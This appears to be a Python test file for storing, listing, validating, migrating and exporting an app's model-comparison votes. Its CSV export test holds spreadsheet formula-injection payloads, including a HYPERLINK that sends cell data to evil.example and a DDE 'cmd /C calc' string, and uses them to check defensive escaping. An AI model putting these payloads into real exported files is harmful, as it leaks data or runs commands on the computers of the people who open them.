"""The Compare page's votes (app/storage/compare_votes.py, table compare_votes from migration 0005): stored and read
back, owners kept apart, what cannot be a vote refused, the leaderboard's view of every owner's votes, and the
migration. On SQLite and on a real PostgreSQL server; then the leaderboard from votes read back."""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import Engine, inspect

from app.compare.export import leaderboard_csv, safe_cell, votes_csv
from app.compare.ratings import leaderboard
from app.compare.results import TargetResult
from app.compare.targets import Target
from app.config import ModelSettings
from app.domain.conversation import AnswerMetrics
from app.storage import CompareVote, CompareVoteStore, VoteOutcome
from app.storage.migrate import current_revision, head_revision, upgrade_to_head
from tests.database import engine_at, migrate, old_conversation, old_texts, schema_differences

UNICODE = 'Grüße, 世界 🌍 — "quoted" \\ back\\slash, tab\t, \u2028 line separator'
T0 = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
A = {"label": "SmolLM2 cold", "settings": {"backend": "hf", "model_path": "", "vllm": {"enforce_eager": False}}}
B = {"label": "SmolLM2 hot", "settings": {"backend": "hf", "model_path": ""}}


@pytest.fixture
def store(engine: Engine) -> CompareVoteStore:
    return CompareVoteStore(engine)


def save(store: CompareVoteStore, owner: str = "alice", verdict: str = "a", minutes: int = 0, a: dict = A,
         b: dict = B, **fields: Any) -> str:
    return store.save(owner, fields.pop("targets", [a, b]), fields.pop("prompt", "Which is better?"),
                      fields.pop("answers", ["Answer A", "Answer B"]), verdict,  # type: ignore[arg-type]
                      metrics=fields.pop("metrics", [{"ttft_s": 0.1, "tokens_per_second": 40.0},
                                                     {"ttft_s": 0.3, "tokens_per_second": 25.5}]),
                      created_at=T0 + timedelta(minutes=minutes))


def test_a_vote_comes_back_exactly(store):
    metrics = [{"ttft_s": 0.125, "tokens_per_second": 41.5, "completion_tokens": 12, "prompt_tokens": 30,
                "cached_tokens": 16}, {"ttft_s": None, "tokens_per_second": None, "completion_tokens": 0}]
    vote_id = store.save("alice", [A, B], UNICODE, [UNICODE + " A", "B " * 5000], "tie", metrics=metrics,
                         created_at=T0)
    stored = store.get("alice", vote_id)
    assert stored == CompareVote(vote_id, "alice", T0, "tie", [A, B], UNICODE, [UNICODE + " A", "B " * 5000],
                                 metrics)
    assert stored.created_at.tzinfo is UTC and stored.labels == ("SmolLM2 cold", "SmolLM2 hot")
    assert json.dumps(stored.targets) == json.dumps([A, B])  # nested settings, in order
    assert store.get("alice", "no-such-vote") is None


def test_every_verdict_is_stored_and_votes_list_newest_first(store):
    ids = [save(store, verdict=verdict, minutes=n) for n, verdict in enumerate(("a", "b", "tie", "both_bad"))]
    listed = store.list("alice")
    assert [vote.id for vote in listed] == ids[::-1]
    assert [vote.verdict for vote in listed] == ["both_bad", "tie", "b", "a"]
    assert [vote.id for vote in store.list("alice", limit=2, offset=1)] == ids[2:0:-1]
    with pytest.raises(ValueError, match="limit"):
        store.list("alice", limit=0)


def test_owners_see_and_delete_only_their_own_votes(store):
    alices = save(store, "alice")
    bobs = save(store, "bob", verdict="b", minutes=1)
    assert store.get("bob", alices) is None and [v.id for v in store.list("bob")] == [bobs]
    assert not store.delete("bob", alices)
    assert store.get("alice", alices) is not None
    assert store.delete("alice", alices) and store.get("alice", alices) is None
    assert not store.delete("alice", alices)


def test_the_leaderboard_reads_every_owners_outcomes_without_their_text(store):
    save(store, "alice", "a", minutes=2)
    save(store, "bob", "both_bad", minutes=1, a=B, b=A)
    everyone = store.outcomes()
    assert everyone == [
        VoteOutcome("SmolLM2 hot", "SmolLM2 cold", "both_bad", {"ttft_s": 0.1, "tokens_per_second": 40.0},
                    {"ttft_s": 0.3, "tokens_per_second": 25.5}, T0 + timedelta(minutes=1)),
        VoteOutcome("SmolLM2 cold", "SmolLM2 hot", "a", {"ttft_s": 0.1, "tokens_per_second": 40.0},
                    {"ttft_s": 0.3, "tokens_per_second": 25.5}, T0 + timedelta(minutes=2)),
    ]  # oldest first, and no prompt, answer or settings in them
    assert [o.verdict for o in store.outcomes("alice")] == ["a"]
    assert store.outcomes("carol") == []


@pytest.mark.parametrize(("change", "message"), [
    ({"verdict": "c"}, "verdict must be one of a, b, tie, both_bad"),
    ({"targets": [A]}, "targets must be two items"),
    ({"targets": [A, B, A]}, "targets must be two items"),
    ({"targets": [A, dict(A)]}, "a vote is between two different targets; both are 'SmolLM2 cold'"),
    ({"targets": [A, {"label": ""}]}, "target B: the label must be a string of 1 to 200 characters"),
    ({"targets": [A, {"label": "x" * 201}]}, "target B: the label must be a string of 1 to 200"),
    ({"targets": ["A", B]}, "target A must be an object"),
    ({"targets": [A, {"label": "B", "settings": "hf"}]}, "target B: settings must be a JSON object"),
    ({"targets": [A, {"label": "B", "settings": {"t": math.nan}}]}, "targets must be JSON-serialisable"),
    ({"answers": ["only one"]}, "answers must be two items"),
    ({"answers": "ab"}, "answers must be two items"),
    ({"answers": ["a", None]}, "answers must be two strings"),
    ({"metrics": [{}, {"ttft_s": math.inf}]}, "metrics must be JSON-serialisable"),
    ({"metrics": [{}, 3]}, "metrics must be two JSON objects"),
    ({"prompt": None}, "prompt must be a string"),
])
def test_what_is_no_vote_is_refused_and_nothing_is_saved(store, change, message):
    with pytest.raises(ValueError) as raised:
        save(store, **change)
    assert message in str(raised.value)
    assert store.list("alice") == []


def test_an_owner_too_long_and_a_naive_time_are_refused(store):
    with pytest.raises(ValueError, match="owner"):
        save(store, owner="x" * 201)
    with pytest.raises(ValueError, match="timezone-aware"):
        store.save("alice", [A, B], "p", ["a", "b"], "a", created_at=datetime(2026, 1, 1))


def test_votes_of_a_comparison_make_a_leaderboard(store):
    """From what a page has after a comparison (targets, results) to the leaderboard, through the database."""
    cold = Target("cold", ModelSettings(api_key="sk-secret"))
    hot = Target("hot", ModelSettings(api_key="sk-secret"))

    def result(label: str, ttft: float, speed: float) -> TargetResult:
        outcome = TargetResult(label, answer=f"{label}'s answer")
        outcome.generations.append(AnswerMetrics(completion_tokens=10, time_to_first_token_s=ttft,
                                                 tokens_per_second=speed))
        return outcome

    for n, verdict in enumerate(["a", "a", "tie", "a", "b"]):
        results = [result("cold", 0.1 * (n + 1), 50.0), result("hot", 0.5, 20.0 + n)]
        store.save("alice", [{"label": t.label, "settings": t.public_settings()} for t in (cold, hot)], "Hi?",
                   [r.answer for r in results], verdict, metrics=[r.metrics.to_json() for r in results],
                   created_at=T0 + timedelta(minutes=n))
    assert "sk-secret" not in json.dumps([vote.targets for vote in store.list("alice")])
    first, second = leaderboard(store.outcomes())
    assert (first.label, first.wins, first.losses, first.ties) == ("cold", 3, 1, 1)
    assert (second.label, second.wins, second.losses) == ("hot", 1, 3)
    assert (first.median_ttft_s, second.median_tokens_per_second) == (pytest.approx(0.3), 22.0)


# ----- the migration -----------------------------------------------------------------------------------------------

def test_upgrading_from_0004_adds_compare_votes_and_downgrading_removes_only_them(database_url):
    engine = engine_at(database_url, "0004")
    try:
        assert "compare_votes" not in inspect(engine).get_table_names()
        kept = old_conversation(engine, "alice", "Before the upgrade", ["Hello"])

        upgrade_to_head(engine)  # what open_database does when the app starts on the old database
        with engine.connect() as connection:
            assert current_revision(connection) == head_revision()
        assert schema_differences(engine) == []  # the migrations make what the models declare
        indexes = {index["name"]: index["column_names"] for index in inspect(engine).get_indexes("compare_votes")}
        assert indexes == {"ix_compare_votes_owner_created_at": ["owner", "created_at"],
                           "ix_compare_votes_created_at": ["created_at"]}
        store = CompareVoteStore(engine)
        vote_id = save(store)
        assert store.get("alice", vote_id) is not None

        migrate(engine, "downgrade", "0004")
        with engine.connect() as connection:
            assert current_revision(connection) == "0004"
        assert "compare_votes" not in inspect(engine).get_table_names()
        assert old_texts(engine, kept) == ["Hello"]

        upgrade_to_head(engine)  # and up again: an empty table
        assert store.list("alice") == []
    finally:
        engine.dispose()


# ----- the export ----------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]


def test_votes_exported_as_csv_never_start_a_cell_with_a_formula(store):
    """Prompts, answers and labels are anyone's text: stored in the database, exported, each formula-like cell is
    prefixed with a quote (OWASP), numbers (a negative rating too) stay numbers."""
    hostile = [{"label": FORMULAS[3], "settings": {}}, {"label": FORMULAS[0], "settings": {}}]
    for n, text in enumerate(FORMULAS):
        save(store, minutes=n, targets=hostile, prompt=text, answers=[text, FORMULAS[-1 - n]])
    rows = list(csv.DictReader(io.StringIO(votes_csv(store.list("alice")))))
    assert len(rows) == len(FORMULAS)
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert sorted(row["prompt"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert {row["winner"] for row in rows} == {"'@SUM(1,1)"}

    board = leaderboard(store.outcomes())
    exported = list(csv.DictReader(io.StringIO(leaderboard_csv(board))))
    assert {row["label"] for row in exported} == {"'@SUM(1,1)", "'" + FORMULAS[0]}
    assert all(float(row["rating"]) for row in exported)  # numbers stay numbers
    assert (safe_cell("-0.5"), safe_cell(-3), safe_cell("-")) == ("-0.5", -3, "'-")
